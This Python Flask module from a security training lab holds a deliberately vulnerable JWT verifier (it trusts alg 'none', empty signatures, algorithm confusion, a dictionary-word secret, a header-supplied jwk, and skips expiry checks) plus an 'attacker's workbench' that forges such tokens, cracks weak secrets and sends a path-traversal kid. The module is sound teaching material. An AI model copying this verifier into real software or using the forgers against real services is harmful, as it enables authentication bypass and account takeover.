"""DELIBERATELY VULNERABLE: the naive twin of the jwt demo's verifier. Development only.

A JWT verifier written the way too many tutorials do it, so the lab's attack bench can send
the same forged token to it and to the real one (blueprints/jwt/tokens.py) and show one fall
and the other hold. Its mistakes, each one a real-world CVE class:

1. It believes the token's own `alg`, including "none" (no signature at all).
2. An empty signature is "nothing to check".
3. It verifies with whatever key it has for the `kid`, whatever the algorithm: its RSA public
   key becomes an HMAC secret when a token says HS256 (algorithm confusion).
4. Its HMAC secret is a dictionary word (cracked from a small word list in milliseconds).
5. An unknown `kid` gets an empty key; a key embedded in the header (`jwk`) is trusted.
6. It never checks `exp`, `type`, `iss` or `aud`.

The second half of the module is the attacker's workbench: it forges the tokens the lab sends.
None of this is registered in production (vulnerable/__init__.py, config.ProductionConfig).

What it never does (LAB-3): reach the real app's state. Its accounts are the twins' own
(vulnerable/accounts.py), its keys are its own, and the workbench edits only tokens the attacker
brings: it never signs in to, signs with or writes anything of the real JWT demo.
"""

import base64
import binascii
import hashlib
import hmac
import json
import time
from pathlib import Path

from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from flask import Blueprint, Response, current_app, jsonify, request

from bodies import json_object

from . import accounts

bp = Blueprint("naive_jwt", __name__, url_prefix="/vulnerable/jwt")

WEAK_SECRET = "butterfly"  # a dictionary word: the mistake on display
WORDLIST = Path(__file__).parent / "data" / "jwt-wordlist.txt"
RSA_KEY = rsa.generate_private_key(public_exponent=65537, key_size=2048)
PUBLIC_PEM = RSA_KEY.public_key().public_bytes(
    serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
)
NAIVE_KEYS = {"naive-hs": WEAK_SECRET.encode(), "naive-rs": PUBLIC_PEM}


def b64(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unb64(text):
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def encode(header, payload, key=None):
    """Sign header.payload with HMAC-SHA256 (bytes key), RSA (private key) or nothing (alg none)."""
    signing_input = f"{b64(json.dumps(header).encode())}.{b64(json.dumps(payload).encode())}"
    if header.get("alg") == "none" or key is None:
        return signing_input + "."
    if isinstance(key, bytes):
        signature = hmac.new(key, signing_input.encode(), hashlib.sha256).digest()
    else:
        signature = key.sign(signing_input.encode(), padding.PKCS1v15(), hashes.SHA256())
    return f"{signing_input}.{b64(signature)}"


def naive_verify(token):
    """The naive verifier: the payload, or ValueError. It never reads exp, type, iss or aud (mistake 6)."""
    header_b64, payload_b64, signature_b64 = token.split(".")
    header = json.loads(unb64(header_b64))
    payload = json.loads(unb64(payload_b64))
    alg = header.get("alg")  # mistake 1: the token chooses its algorithm
    if alg == "none" or not signature_b64:  # mistakes 1 and 2
        return payload
    if "jwk" in header:  # mistake 5: a key the token brings with it
        key = rsa.RSAPublicNumbers(
            int.from_bytes(unb64(header["jwk"]["e"]), "big"), int.from_bytes(unb64(header["jwk"]["n"]), "big")
        ).public_key()
    else:
        key = NAIVE_KEYS.get(header.get("kid"), b"")  # mistake 5: unknown kid, empty key
    signing_input = f"{header_b64}.{payload_b64}".encode()
    signature = unb64(signature_b64)
    if alg == "HS256":  # mistake 3: any key bytes become an HMAC secret, a PEM included
        key_bytes = key if isinstance(key, bytes) else b""
        if not hmac.compare_digest(hmac.new(key_bytes, signing_input, hashlib.sha256).digest(), signature):
            raise ValueError("bad signature")
        return payload
    if alg == "RS256":
        public = serialization.load_pem_public_key(key) if isinstance(key, bytes) and key else key
        try:
            public.verify(signature, signing_input, padding.PKCS1v15(), hashes.SHA256())
        except (InvalidSignature, AttributeError, TypeError) as exc:
            raise ValueError("bad signature") from exc
        return payload
    raise ValueError(f"unsupported alg {alg}")


def naive_claims():
    """The payload of the request's bearer token per the naive verifier, or a 401 response."""
    auth = request.headers.get("Authorization", "")
    try:
        return naive_verify(auth.removeprefix("Bearer ").strip()), None
    except Exception as exc:  # the naive verifier fails in many ways; all of them are a 401
        return None, (jsonify(error=f"naive verifier refused: {str(exc)[:120] or type(exc).__name__}"), 401)


def issue(username, token_type="access", lifetime=900):
    """A token of the naive server for one of the twins' own accounts, signed with its weak secret."""
    now = int(time.time())
    role = accounts.find(username).role
    payload = {"sub": username, "role": role, "type": token_type, "iat": now, "exp": now + lifetime}
    return encode({"alg": "HS256", "typ": "JWT", "kid": "naive-hs"}, payload, WEAK_SECRET.encode())


# LAB-3: the naive server knows only the twins' own accounts (vulnerable/accounts.py), never
# the real `users` table: a name that exists only in the real app is unknown here.
@bp.post("/login")
def login():
    """Sign in to the naive server (the twins' own demo accounts; the password is not the point here)."""
    username = json_object().get("username")
    if accounts.find(username) is None:
        return jsonify(error="unknown user"), 401
    return jsonify(access_token=issue(username), refresh_token=issue(username, "refresh", 7 * 24 * 3600))


@bp.get("/protected")
def protected():
    """Any token the naive verifier believes."""
    claims, refused = naive_claims()
    return refused or jsonify(message="You are authenticated!", naive_claims=claims)


@bp.get("/admin")
def admin():
    """Admins only, per the role claim of a token the naive verifier believes."""
    claims, refused = naive_claims()
    if refused:
        return refused
    if not isinstance(claims, dict) or claims.get("role") != "admin":
        return jsonify(error="admin role required"), 403
    return jsonify(message="Welcome, admin!", naive_claims=claims)


@bp.get("/public.pem")
def public_pem():
    """The naive server's RSA public key: public, as public keys are."""
    return Response(PUBLIC_PEM, mimetype="text/plain")


@bp.get("/wordlist.txt")
def wordlist():
    """The attacker's word list (a tiny one: real ones hold billions of entries)."""
    return Response(WORDLIST.read_bytes(), mimetype="text/plain")


# ### The attacker's workbench


def parts(token):
    header_b64, payload_b64, signature_b64 = token.split(".")
    return json.loads(unb64(header_b64)), json.loads(unb64(payload_b64)), signature_b64


def crack(token, words):
    """Try each word as the HMAC secret of an HS256 token: (word or None, words tried, ms)."""
    started = time.perf_counter()
    header_b64, payload_b64, signature_b64 = token.split(".")
    signing_input = f"{header_b64}.{payload_b64}".encode()
    signature = unb64(signature_b64)
    for tried, word in enumerate(words, start=1):
        if hmac.compare_digest(hmac.new(word.encode(), signing_input, hashlib.sha256).digest(), signature):
            return word, tried, (time.perf_counter() - started) * 1000
    return None, len(words), (time.perf_counter() - started) * 1000


def as_admin(payload):
    return {**payload, "role": "admin"}


def forge(attack, naive_token, real_token, real_refresh, real_public=None, foreign=None):
    """(token for the naive verifier, token for the real one, notes) for one attack."""
    nh, np_, nsig = parts(naive_token)
    rh, rp, rsig = parts(real_token)
    notes = {}
    if attack == "alg-none":
        return (
            encode({"alg": "none", "typ": "JWT"}, as_admin(np_)),
            encode({"alg": "none", "typ": "JWT"}, as_admin(rp)),
            notes,
        )
    if attack == "stripped-signature":
        return encode(nh, as_admin(np_)), encode(rh, as_admin(rp)), notes
    if attack == "payload-edited":

        def keep_signature(header, payload, signature):
            return f"{b64(json.dumps(header).encode())}.{b64(json.dumps(as_admin(payload)).encode())}.{signature}"

        return keep_signature(nh, np_, nsig), keep_signature(rh, rp, rsig), notes
    if attack == "alg-confusion":
        # The public key is public: sign HS256 with its PEM bytes as the HMAC secret.
        naive = encode({"alg": "HS256", "typ": "JWT", "kid": "naive-rs"}, as_admin(np_), PUBLIC_PEM)
        kid, pem = real_public or (rh.get("kid"), PUBLIC_PEM)
        real = encode({"alg": "HS256", "typ": "JWT", "kid": kid}, as_admin(rp), pem)
        return naive, real, notes
    if attack == "weak-secret":
        words = WORDLIST.read_text().splitlines()
        word, tried, ms = crack(naive_token, words)
        real_word, real_tried, real_ms = crack(real_token, words)
        notes = {
            "naive": f"cracked: the secret is {word!r} ({tried} guesses, {ms:.1f} ms)"
            if word
            else f"not cracked ({tried} guesses)",
            "real": f"not cracked: {real_tried} guesses in {real_ms:.1f} ms; the real key is 256 random bits "
            "(2^256 guesses)"
            if not real_word
            else f"cracked?! {real_word!r}",
        }
        naive = encode(nh, as_admin(np_), (word or "").encode())
        real = encode(rh, as_admin(rp), (real_word or "secret").encode())
        return naive, real, notes
    if attack == "kid-trick":
        # A kid no key has (or a path like ../../dev/null): a naive lookup gives an empty key.
        header = {"alg": "HS256", "typ": "JWT", "kid": "../../../../dev/null"}
        return encode(header, as_admin(np_), b""), encode(header, as_admin(rp), b""), notes
    if attack == "jwk-header":
        # The attacker's own key pair; the public half rides in the header for the verifier to use.
        mine = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        numbers = mine.public_key().public_numbers()
        jwk = {"kty": "RSA", "e": b64(numbers.e.to_bytes(3, "big")), "n": b64(numbers.n.to_bytes(256, "big"))}
        jku = current_app.config["ATTACKER_URL"] + "/jwks.json"
        header = {"alg": "RS256", "typ": "JWT", "jwk": jwk, "jku": jku}
        return encode(header, as_admin(np_), mine), encode({**header, "kid": rh.get("kid")}, as_admin(rp), mine), notes
    if attack == "expired":
        # A token captured earlier, its exp now past: the naive server signed it, and the real
        # one signed the attacker's own (which the attacker let expire before bringing it).
        stale = {**np_, "iat": int(time.time()) - 3600, "exp": int(time.time()) - 2700}
        return encode(nh, stale, WEAK_SECRET.encode()), real_token, notes
    if attack == "refresh-as-access":
        return issue(np_["sub"], "refresh"), real_refresh, notes
    if attack == "foreign-token":
        return foreign, foreign, notes
    raise KeyError(attack)


# Each attack, and why the real verifier holds, in one sentence for the bench.
EXPLAIN = {
    "alg-none": "The token says it needs no signature; the real verifier takes the algorithm from its key, never "
    "from the token.",
    "stripped-signature": "An empty signature is not 'nothing to check': the real verifier always checks one.",
    "payload-edited": "Both hold: any verifier that checks the signature at all catches an edit. The naive one "
    "falls only when the signature is removed or forged (the rows above and below).",
    "alg-confusion": "The RSA public key is public; used as an HMAC secret it signs anything. The real keyring "
    "binds each key to one algorithm (rotate to RS256 to see that refusal; in HS256 mode the forged "
    "signature simply fails).",
    "weak-secret": "A dictionary word falls to a word list in milliseconds; 256 random bits do not fall at all.",
    "kid-trick": "An unknown kid gave the naive verifier an empty key; the real one refuses any kid it does not hold.",
    "jwk-header": "The attacker's own key rode in the header; the real verifier never uses or fetches a key the "
    "token offers (jwk, jku, x5u, x5c).",
    "expired": "The naive verifier never reads exp; the real one refuses a token one second late.",
    "refresh-as-access": "The naive verifier ignores the token's type; the real one keeps the kinds apart.",
    "foreign-token": "Another issuer's token (the provider's id_token) names a key, issuer and audience that are "
    "not this API's.",
}
ATTACKS = tuple(EXPLAIN)


# LAB-3: the workbench holds no account and no key of the real app. The attacker (bob, an
# ordinary user) signs in at the real POST /jwt/login with his own password, through its
# throttle, like anybody else, and brings that pair here (with the published JWKS when he wants
# the real public key). The workbench only edits what he brought: it never calls the real
# authenticate(), never signs with the real keyring and never writes the real refresh families
# or blocklist. Each token aimed at the real verifier is one the real app issued to bob, or
# bob's own edit of it; nothing here mints a real token for anyone.
@bp.post("/forge")
def forge_route():
    """Forge one attack's tokens from the attacker's own: one for the naive verifier, one for the real.

    Send {"attack": ..., "access_token": ..., "refresh_token": ...}: bob's pair from POST /jwt/login.
    Also "jwks" (GET /jwt/.well-known/jwks.json) for alg-confusion, "token" for foreign-token, and,
    for expired, an access token whose exp has passed (sign in with "lifetime": 5, then wait).
    """
    data = json_object()
    attack = data.get("attack")
    if attack not in ATTACKS:
        return jsonify(error=f"attack must be one of {', '.join(ATTACKS)}"), 400
    access, refresh, foreign = (attackers_token(data.get(name)) for name in ("access_token", "refresh_token", "token"))
    if access is None:
        return jsonify(error="sign in as bob at POST /jwt/login first, and send the access_token you got"), 400
    if attack == "refresh-as-access" and refresh is None:
        return jsonify(error="send bob's refresh_token too (from the same sign-in)"), 400
    if attack == "foreign-token" and foreign is None:
        return jsonify(error="paste a token from elsewhere (the OAuth lab's id_token) first"), 400
    if attack == "expired" and not has_expired(access):
        return jsonify(error="this access token has not expired yet: sign in with a 5 s lifetime and wait"), 400
    naive_token, real_token, notes = forge(
        attack, issue("bob"), access, refresh, published_rsa_key(data.get("jwks"), access), foreign
    )
    # Attacks on the role go to /admin; the others only need any valid token (/protected).
    target = "protected" if attack in {"expired", "refresh-as-access", "foreign-token"} else "admin"
    notes = {"why": EXPLAIN[attack], **notes}
    return jsonify(attack=attack, target=target, naive_token=naive_token, real_token=real_token, notes=notes)


# What the attacker brings is attacker input like any other: a malformed token, a header that is
# a list, nesting thousands deep or a JWKS with impossible numbers is a 400, never a 500.
UNREADABLE = (ValueError, TypeError, KeyError, AttributeError, binascii.Error, RecursionError)


def attackers_token(value):
    """A token the attacker brought, if it has a JSON object for header and payload; else None."""
    if not isinstance(value, str) or len(value) > 8192 or value.count(".") != 2:
        return None
    try:
        header, payload, signature = parts(value)
        unb64(signature)
    except UNREADABLE:
        return None
    return value if isinstance(header, dict) and isinstance(payload, dict) else None


def has_expired(token):
    exp = parts(token)[1].get("exp")
    return isinstance(exp, int | float) and not isinstance(exp, bool) and exp <= time.time()


def published_rsa_key(jwks, token):
    """(kid, PEM) of the RSA key the token names in a JWKS the attacker fetched, or None."""
    keys = jwks.get("keys") if isinstance(jwks, dict) else None
    kid = parts(token)[0].get("kid")
    for jwk in keys if isinstance(keys, list) else []:
        if not (isinstance(jwk, dict) and jwk.get("kty") == "RSA" and jwk.get("kid") == kid):
            continue
        try:
            e, n = (int.from_bytes(unb64(jwk[name]), "big") for name in ("e", "n"))
            public = rsa.RSAPublicNumbers(e, n).public_key()
        except UNREADABLE:
            return None
        return kid, public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    return None
